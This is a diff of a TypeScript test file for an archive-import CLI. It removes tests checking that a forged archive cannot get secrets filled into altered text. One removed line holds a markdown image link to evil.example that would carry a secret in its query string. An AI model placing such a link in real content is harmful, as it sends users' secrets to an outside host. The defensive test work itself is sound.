@@ -4,9 +4,6 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { openArchive } from "../../src/archive/reader.ts";
 import { startSandbox } from "../../src/sandbox/start-sandbox.ts";
 import type { Sandbox } from "../../src/sandbox/start-sandbox.ts";
-import type { JsonObject } from "../../src/core/json.ts";
-import type { StackRecord } from "../../src/core/records/record.ts";
-import { readArchive, writeArchive } from "../support/archive-samples.ts";
 import { readSandbox } from "../support/read-sandbox.ts";
 import { documentOf } from "../support/run-cli.ts";
 import { callSandbox } from "../support/small-bench.ts";
@@ -132,77 +129,5 @@ describe("import", () => {
     expect(without).toMatchObject({ exitCode: 2, error: { code: "config" } });
     expect(await stacks.json(line, { env })).toMatchObject({ exitCode: 0 });
     expect(await notesOf(fresh)).toHaveLength(1);
-  });
-});
-
-describe("an archive that was changed after its secrets file was answered", () => {
-  const hostile = "![](https://evil.example/p.png?k=«redacted:assigned-secret»)";
-  let stranger: Sandbox;
-  let secrets: string;
-
-  /** The archive as a stranger would make it: another text where the answer goes, everything else in order. */
-  async function forge(name: string, markdown: string, isListed: boolean): Promise<void> {
-    await using reader = await openArchive(join(cwd, "a.zip"));
-    const records = await readArchive(join(cwd, "a.zip"));
-    const forged = records.map((record): StackRecord => {
-      if (record.kind !== "dashboards") return record;
-      const tiles = (record.body["tiles"] as JsonObject[]).map((tile) => ({
-        ...tile,
-        config: { ...(tile["config"] as JsonObject), markdown },
-      }));
-      return { ...record, body: { ...record.body, tiles } };
-    });
-    const { createdAt, createdBy, source: from, kinds, redactions } = reader.manifest;
-    const header = { createdAt, createdBy, source: from, kinds, warnings: [], redactions: isListed ? redactions : [] };
-    await writeArchive({ path: join(cwd, name), format: "zip" }, forged, header);
-  }
-
-  beforeAll(async () => {
-    stranger = await startSandbox(bareStack);
-    secrets = await readFile(join(cwd, "secrets.yaml"), "utf8");
-  });
-
-  afterAll(() => stranger.close());
-
-  it("gets nothing, and says who would get it", async () => {
-    await forge("evil.zip", hostile, true);
-    const line = `import evil.zip --to ${stranger.stack} --secrets secrets.yaml`;
-    const refused = await json(line, stranger);
-    expect(refused).toMatchObject({ exitCode: 3, missingSecrets: [{ around: [`evil.example: ${hostile}`] }] });
-    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "secret-context-changed" }));
-    expect(refused["warnings"]).toContainEqual(expect.objectContaining({ code: "placeholder-in-image" }));
-    expect(await notesOf(stranger)).toEqual([]);
-    const shown = await stacks.run(`${line} --dry-run --report evil.html`, { env: envOnto(stranger) });
-    expect(shown.stdout).toContain(`evil.example: ${hostile}`);
-    expect(shown.stderr).toMatch(/warning: .*every viewer sends the secret there \(evil\.example\)/);
-    expect(await readFile(join(cwd, "evil.html"), "utf8")).toContain("evil.example: ![](");
-  });
-
-  it("is drafted anew beside the old answer, which goes on being used for the old text alone", async () => {
-    await json("import evil.zip --to $TO --secrets secrets.yaml --draft-secrets secrets.yaml", stranger);
-    const draft = await readFile(join(cwd, "secrets.yaml"), "utf8");
-    expect(draft).toContain(`# evil.example: ${hostile}`);
-    expect(draft).toContain("${env:RUNBOOK_PASSWORD}");
-    expect(await notesOf(stranger)).toEqual([]);
-    const done = await json("import a.zip --to $TO --secrets secrets.yaml --yes", stranger);
-    expect(done).toMatchObject({ exitCode: 0 });
-    expect(await notesOf(stranger)).toEqual([`# Login\n\nadmin, password: ${FILLED}, then see the wiki`]);
-  });
-
-  it("gets nothing either where its manifest lists no redaction", async () => {
-    await using other = await startSandbox(bareStack);
-    await forge("unlisted.zip", "# Login\n\nadmin, password: «redacted:assigned-secret», then see the wiki", false);
-    const refused = await json("import unlisted.zip --to $TO --secrets secrets.yaml", other);
-    expect(refused).toMatchObject({ exitCode: 3, missingSecrets: [] });
-    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "placeholder-unlisted" }));
-    expect(await notesOf(other)).toEqual([]);
-  });
-
-  it("is not filled in by lines without a context", async () => {
-    await using other = await startSandbox(bareStack);
-    await writeFile(join(cwd, "old.yaml"), secrets.replace(/^\s+context:.*\n/m, ""));
-    const refused = await json("import a.zip --to $TO --secrets old.yaml", other);
-    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "secret-context-changed" }));
-    expect(await notesOf(other)).toEqual([]);
   });
 });
